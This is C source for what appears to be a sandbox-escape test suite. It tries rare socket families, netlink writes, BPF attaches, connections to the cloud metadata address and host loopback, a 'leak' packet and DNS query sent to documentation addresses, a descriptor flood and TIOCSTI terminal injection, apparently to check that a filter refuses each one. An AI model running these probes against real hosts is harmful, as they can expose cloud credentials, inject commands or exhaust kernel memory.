/* Sockets: families and protocols, options, who can be reached; terminals' ioctls. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/if_link.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define P(x) ((uintptr_t)(x))

/* --- families ------------------------------------------------------------------------------- */

/* Every family but those that a level may give: each must be refused the same way. */
static long all_families(const struct attack *self)
{
	for (long f = 0; f < 64; f++) {
		static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};

		if (f == AF_UNIX || f == AF_INET || f == AF_INET6 || f == AF_NETLINK)
			continue;
		for (size_t t = 0; t < sizeof(types) / sizeof(types[0]); t++) {
			long r = sys(self->nr, f, types[t], 0L, 0L, 0L, 0L);

			if (r != -EAFNOSUPPORT)
				attack_says("family-%ld-%s", f,
					    r >= 0 ? "ok" : strerrorname_np((int)-r));
		}
	}
	return -EAFNOSUPPORT;
}

/* Sets the loopback down and up: what CAP_NET_ADMIN over the network namespace is needed for. */
static long rtnetlink_write(const struct attack *self)
{
	struct {
		struct nlmsghdr h;
		struct ifinfomsg i;
	} m = {
		{sizeof(m), RTM_NEWLINK,    NLM_F_REQUEST | NLM_F_ACK, 1, 0},
		{.ifi_family = AF_UNSPEC,
		 .ifi_index = 1,
		 .ifi_flags = IFF_UP,
		 .ifi_change = IFF_UP                                    },
	};
	struct {
		struct nlmsghdr h;
		struct nlmsgerr e;
		char rest[512];
	} answer;
	long fd = sys(self->nr, AF_NETLINK, SOCK_RAW, NETLINK_ROUTE, 0L, 0L, 0L);

	if (fd < 0)
		return fd;
	if (send((int)fd, &m, sizeof(m), 0) < 0)
		return -errno;
	if (recv((int)fd, &answer, sizeof(answer), 0) < (ssize_t)sizeof(answer.h) ||
	    answer.h.nlmsg_type != NLMSG_ERROR)
		attack_says("no-answer");
	return answer.e.error;
}

/* --- options -------------------------------------------------------------------------------- */

/* A socket that can be had at every level; the filter looks at level and option alone. */
static int any_socket(int family, int type)
{
	int pair[2], fd = socket(family, type, 0);

	if (fd >= 0)
		return fd;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		attack_says("no-socket");
	return pair[0];
}

static long tcp_ulp(const struct attack *self)
{
	return sys(self->nr, any_socket(AF_INET, SOCK_STREAM), 6L, 31L, P(self->path),
		   strlen(self->path) + 1, 0L);
}

static long udp_encap(const struct attack *self)
{
	int value = 2;

	return sys(self->nr, any_socket(AF_INET, SOCK_DGRAM), 17L, 100L, P(&value), sizeof(value),
		   0L);
}

static long attach(const struct attack *self)
{
	struct sock_filter all = BPF_STMT(BPF_RET | BPF_K, 0xffffffff);
	struct sock_fprog prog = {1, &all};
	int pair[2], fd = -1;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		attack_says("no-socket");
	if (self->a[1])
		return sys(self->nr, pair[0], SOL_SOCKET, self->a[0], P(&fd), sizeof(fd), 0L);
	return sys(self->nr, pair[0], SOL_SOCKET, self->a[0], P(&prog), sizeof(prog), 0L);
}

/* --- who can be reached --------------------------------------------------------------------- */

static long reach(const struct sockaddr *to, socklen_t len)
{
	int fd = socket(to->sa_family, SOCK_STREAM, 0);

	if (fd < 0)
		return -errno;
	return connect(fd, to, len) ? -errno : 0;
}

/* The runner listens there, in the machine's network namespace. */
static long abstract_unix(const struct attack *self)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	size_t n = strlen(ATTACK_SECRET);

	(void)self;
	memcpy(to.sun_path + 1, ATTACK_SECRET, n);
	return reach((struct sockaddr *)&to,
		     (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n));
}

static long connect_to(const struct attack *self)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)self->a[0])};
	struct sockaddr_in6 to6 = {.sin6_family = AF_INET6,
				   .sin6_port = htons((uint16_t)self->a[0])};

	if (inet_pton(AF_INET, self->path, &to.sin_addr) == 1)
		return reach((struct sockaddr *)&to, sizeof(to));
	inet_pton(AF_INET6, self->path, &to6.sin6_addr);
	return reach((struct sockaddr *)&to6, sizeof(to6));
}

/* Where an address of somebody else could be written into packets, or marks that rules trust. */
static long net_option(const struct attack *self)
{
	unsigned char lsrr[8] = {131, 7, 4, 203, 0, 113, 1};
	int one = 1, fd = socket((int)self->a[0], SOCK_DGRAM, 0);

	if (fd < 0)
		return -errno;
	if (self->a[2] == IP_OPTIONS && self->a[1] == IPPROTO_IP)
		return sys(self->nr, fd, self->a[1], self->a[2], P(lsrr), sizeof(lsrr), 0L);
	return sys(self->nr, fd, self->a[1], self->a[2], P(&one), sizeof(one), 0L);
}

/* Data in the first packet, by the call that connects and sends at once. */
static long fast_open(const struct attack *self)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -errno;
	inet_pton(AF_INET, self->path, &to.sin_addr);
	return sys(self->nr, fd, P("leak"), 4L, (long)(MSG_FASTOPEN | MSG_NOSIGNAL), P(&to),
		   sizeof(to));
}

/* A query to a name server that everybody may use. */
static long foreign_dns(const struct attack *self)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return -errno;
	inet_pton(AF_INET, self->path, &to.sin_addr);
	return sys(self->nr, fd, P("\0\1\1\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1"), 19L, 0L, P(&to),
		   sizeof(to));
}

/* As root of the sandbox: nothing of it may appear outside. */
static long bind_low(const struct attack *self)
{
	struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(80)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)self;
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) || listen(fd, 1))
		return -errno;
	return 0;
}

/* Descriptors that are on their way hold memory of nobody's limit but this one. */
static long flood_in_flight(const struct attack *self)
{
	int pair[2], carried[128];
	union {
		char room[CMSG_SPACE(sizeof(carried))];
		struct cmsghdr align;
	} c = {0};
	char byte = 0;
	struct iovec one = {&byte, 1};
	struct msghdr m = {.msg_iov = &one,
			   .msg_iovlen = 1,
			   .msg_control = c.room,
			   .msg_controllen = sizeof(c.room)};

	(void)self;
	c.align = (struct cmsghdr){CMSG_LEN(sizeof(carried)), SOL_SOCKET, SCM_RIGHTS};
	for (size_t i = 0; i < 128; i++)
		carried[i] = 1;
	memcpy(CMSG_DATA(&c.align), carried, sizeof(carried));
	for (int n = 0; n < 100000; n++) {
		if (n % 100 == 0 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair))
			return -errno;
		if (sendmsg(pair[0], &m, MSG_DONTWAIT) < 0 && errno != EAGAIN)
			return -errno;
	}
	return 0;
}

/* --- terminals ------------------------------------------------------------------------------ */

static long terminal(const struct attack *self)
{
	char text[] = "x";
	int unlock = 0, master, slave = 0;

	/* Without a terminal the call is made on the standard input: the filter answers first. */
	master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (master >= 0 && !ioctl(master, TIOCSPTLCK, &unlock))
		slave = ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
	if (slave > 0) {
		setsid();
		(void)ioctl(slave, TIOCSCTTY, 0); /* the answer is in the next one */
	}
	return sys(self->nr, slave > 0 ? slave : 0, self->a[0], P(text), 0L, 0L, 0L);
}

#define SOCKET(name, ...)                                                                          \
	{                                                                                          \
		name, SYS_socket, {__VA_ARGS__}, NULL, NULL, 0                                     \
	}
#define NETLINK(name, protocol)                                                                    \
	{                                                                                          \
		name, SYS_socket, {AF_NETLINK, SOCK_RAW, protocol}, NULL, NULL, 0                  \
	}
#define TERMINAL(name, request)                                                                    \
	{                                                                                          \
		name, SYS_ioctl, {request}, terminal, NULL, 0                                      \
	}

const struct attack socket_attacks[] = {
	SOCKET("af-alg", 38, SOCK_SEQPACKET, 0),
	SOCKET("af-alg-wide", 0x100000026ull, SOCK_SEQPACKET, 0),
	SOCKET("af-vsock", 40, SOCK_STREAM, 0),
	SOCKET("af-vsock-wide", 0x100000028ull, SOCK_STREAM, 0),
	SOCKET("af-packet", AF_PACKET, SOCK_RAW, 0),
	SOCKET("af-xdp", 44, SOCK_RAW, 0),
	SOCKET("raw-icmp", AF_INET, SOCK_RAW, IPPROTO_ICMP),
	SOCKET("raw-ip6", AF_INET6, SOCK_RAW, IPPROTO_RAW),
	{"families",             SYS_socket,     {0},					all_families,    NULL,                 0       },
	NETLINK("netlink-route", NETLINK_ROUTE),
	NETLINK("netlink-netfilter", NETLINK_NETFILTER),
	NETLINK("netlink-xfrm", NETLINK_XFRM),
	NETLINK("netlink-audit", NETLINK_AUDIT),
	NETLINK("netlink-uevent", NETLINK_KOBJECT_UEVENT),
	NETLINK("netlink-generic", NETLINK_GENERIC),
	NETLINK("netlink-crypto", NETLINK_CRYPTO),
	NETLINK("netlink-diag", NETLINK_SOCK_DIAG),
	NETLINK("netlink-wide", 0x10000000cull),
	{"rtnetlink-write",      SYS_socket,     {0},                                        rtnetlink_write, NULL,                 0       },
	{"tcp-ulp-tls",          SYS_setsockopt, {0},                                        tcp_ulp,         "tls",                0       },
	{"tcp-ulp-espintcp",     SYS_setsockopt, {0},                                        tcp_ulp,         "espintcp",           0       },
	{"udp-encap",            SYS_setsockopt, {0},                                        udp_encap,       NULL,                 0       },
	{"attach-filter",        SYS_setsockopt, {SO_ATTACH_FILTER},                         attach,          NULL,                 0       },
	{"attach-bpf",           SYS_setsockopt, {SO_ATTACH_BPF, 1},                         attach,          NULL,                 0       },
	{"attach-reuseport",     SYS_setsockopt, {SO_ATTACH_REUSEPORT_CBPF},                 attach,          NULL,                 0       },
	{"attach-reuseport-bpf", SYS_setsockopt, {SO_ATTACH_REUSEPORT_EBPF, 1},              attach,          NULL,                 0       },
	SOCKET("sctp", AF_INET, SOCK_STREAM, IPPROTO_SCTP),
	SOCKET("dccp", AF_INET, 6, IPPROTO_DCCP),
	SOCKET("mptcp", AF_INET, SOCK_STREAM, 262),
	SOCKET("l2tp", AF_INET, SOCK_DGRAM, 115),
	SOCKET("udplite", AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE),
	SOCKET("ping-socket", AF_INET, SOCK_DGRAM, IPPROTO_ICMP),
	{"socketpair-inet",      SYS_socketpair, {AF_INET, SOCK_STREAM, 0, 0},               NULL,            NULL,                 0       },
	{"abstract-unix",        SYS_connect,    {0},                                        abstract_unix,   NULL,                 ARM_HOST},
	{"host-loopback",        SYS_connect,    {47321},                                    connect_to,      "127.0.0.1",          ARM_HOST},
	{"metadata",             SYS_connect,    {80},                                       connect_to,      "169.254.169.254",    0       },
	{"metadata6",            SYS_connect,    {80},                                       connect_to,      "fd00:ec2::254",      0       },
	{"public4",              SYS_connect,    {443},                                      connect_to,      "203.0.113.1",        0       },
	{"public6",              SYS_connect,    {443},                                      connect_to,      "2001:db8::1",        0       },
	{"mapped4",              SYS_connect,    {443},                                      connect_to,      "::ffff:203.0.113.1", 0       },
	{"nat64",                SYS_connect,    {443},				      connect_to,      "64:ff9b::cb00:7101", 0       },
	{"sixtofour",            SYS_connect,    {443},                                      connect_to,      "2002:cb00:7101::1",  0       },
	{"foreign-dns",          SYS_sendto,     {0},                                        foreign_dns,     "203.0.113.53",       0       },
	{"fast-open",            SYS_sendto,     {0},					fast_open,       "203.0.113.1",        0       },
	{"so-mark",              SYS_setsockopt, {AF_INET, SOL_SOCKET, SO_MARK},             net_option,      NULL,                 0       },
	{"ip-transparent",
						      SYS_setsockopt,			 {AF_INET, IPPROTO_IP, IP_TRANSPARENT},
						      net_option,											  NULL,
						      0																  },
	{"ip6-transparent",
						      SYS_setsockopt,			 {AF_INET6, IPPROTO_IPV6, IPV6_TRANSPARENT},
						      net_option,											  NULL,
						      0																  },
	{"source-route",         SYS_setsockopt, {AF_INET, IPPROTO_IP, IP_OPTIONS},          net_option,      NULL,                 0       },
	{"bind-low",             SYS_bind,       {0},					bind_low,        NULL,                 0       },
	{"fds-in-flight",        SYS_sendmsg,    {0},                                        flood_in_flight, NULL,                 0       },
	TERMINAL("tiocsti", 0x5412),
	TERMINAL("tiocsti-wide", 0x100005412ull),
	TERMINAL("tioclinux", 0x541c),
	TERMINAL("tioccons", 0x541d),
	TERMINAL("tiocsetd", 0x5423),
	TERMINAL("tiocslcktrmios", 0x5457),
	{NULL,		   0,              {0},					NULL,            NULL,                 0       },
};
